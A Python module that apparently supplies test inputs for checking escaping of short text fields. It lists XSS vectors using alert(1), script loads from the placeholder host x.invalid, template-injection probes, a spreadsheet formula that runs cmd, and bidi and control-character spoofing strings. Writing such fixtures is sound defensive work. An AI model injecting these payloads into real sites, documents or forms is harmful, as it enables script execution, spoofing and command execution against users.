"""Texts that act as markup, script or control characters where they are not escaped, each short
enough for the name of a model. They load nothing, and name no address that exists."""

from collections.abc import Iterator, Sequence

_ACT = "alert(1)"
_EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onpointerenter", "ontoggle", "onanimationstart",
    "onbeforeinput", "onscroll", "onmouseover",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x",
    "iframe", "math", "marquee",
)  # fmt: skip
_ELSEWHERE = (
    f"<script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"<SCRIPT SRC=//x.invalid/x.js>{_ACT}</SCRIPT>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<script/x>{_ACT}</script >",
    f"<script>{_ACT}//",
    f"<script type=module>{_ACT}</script>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><script href=data:,{_ACT} />",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_ACT}><text>x</text></a></svg>",
    f"<math><mtext><script>{_ACT}</script></mtext></math>",
    f'<a href="javascript:{_ACT}">x</a>',
    f'<a href="java&#9;script:{_ACT}">x</a>',
    f"<a href=data:text/html,<script>{_ACT}</script>>x</a>",
    f"<form action=javascript:{_ACT}><button>x</button></form>",
    f"<button formaction=javascript:{_ACT}>x</button>",
    f"<iframe src=javascript:{_ACT}></iframe>",
    f"<iframe srcdoc='<script>{_ACT}</script>'></iframe>",
    f"<object data=javascript:{_ACT}></object>",
    f"<embed src=javascript:{_ACT}>",
    '<meta http-equiv=refresh content="0;url=//x.invalid/">',
    "<base href=//x.invalid/>",
    "<link rel=stylesheet href=//x.invalid/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import'//x.invalid/x.css';</style>",
    '<b style="position:fixed;inset:0">x</b>',
    "<template><slot></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"</textarea><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</style><script>{_ACT}</script>",
    f"</pre></blockquote><script>{_ACT}</script>",
    f"--><script>{_ACT}</script>",
    f"<!--<img src='--><img src=x onerror={_ACT}>'>",
    f"]]><script>{_ACT}</script>",
    f"<![CDATA[<script>{_ACT}</script>]]>",
    f"<?xml version='1.0'?><script>{_ACT}</script>",
    f'" onfocus="{_ACT}" autofocus="',
    f"' onfocus='{_ACT}' autofocus='",
    f'"><script>{_ACT}</script>',
    f"'><script>{_ACT}</script>",
    f"` onerror={_ACT} `",
    f'x" data-x="<img src=x onerror={_ACT}>',
    f"javascript:{_ACT}",
    f"JaVaScRiPt://%0a{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"vbscript:{_ACT}",
    f"';{_ACT}//",
    f'";{_ACT}//',
    f"\\';{_ACT}//",
    f"${{{_ACT}}}",
    f"`${{{_ACT}}}`",
    f"{{{{constructor.constructor('{_ACT}')()}}}}",
    "{{ request.user }}{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    f"%3Cscript%3E{_ACT}%3C/script%3E",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"&#60;script&#62;{_ACT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_ACT}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_ACT}+ADw-/script+AD4-",
    f"<img src=x\tonerror={_ACT}>",
    f"<img/src=x/onerror={_ACT}>",
    f"<img src=`x`onerror={_ACT}>",
    f"<\u202eimg src=x onerror={_ACT}>",
    f"<div data-hx-on:load={_ACT} hx-get=//x.invalid hx-trigger=load>",
    '<div hx-get="/admin/" hx-trigger="load" hx-swap="outerHTML">',
    "<form id=x><input name=attributes></form>",
    "<img name=body><img name=querySelector>",
    f"[x](javascript:{_ACT})",
    f"![x](x'onerror='{_ACT})",
    f"<javascript:{_ACT}>",
    f"```\n<script>{_ACT}</script>",
    f"```` ~~~\n\n<img src=x onerror={_ACT}>",
    "=cmd|'/c calc'!A0",
    "\u202e\u2066evil\u2069\u202c",
    "\u2067\u202etxt.exe",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0328\u0334l\u0358g\u0335o\u031b",
    "\ufeff\u200b\u200d\u00ad\u2028\u2029",
    "\x01\x08\x1b[31m\x7f\x9b",
    "\U000e0041\U000e007f\ufff9x\ufffb",
)
PAYLOADS: Sequence[str] = (
    *(f"<img src=x {event}={_ACT}>" for event in _EVENTS),
    *(f"<{element} onload={_ACT} onerror={_ACT}>" for element in _ELEMENTS),
    *_ELSEWHERE,
)


def pieces(most: int) -> Iterator[str]:
    """All payloads, joined into as few texts as a field of this length allows."""
    piece = ""
    for payload in PAYLOADS:
        if piece and len(piece) + 1 + len(payload) > most:
            yield piece
            piece = ""
        piece = f"{piece} {payload}".strip(" ")[:most]
    yield piece
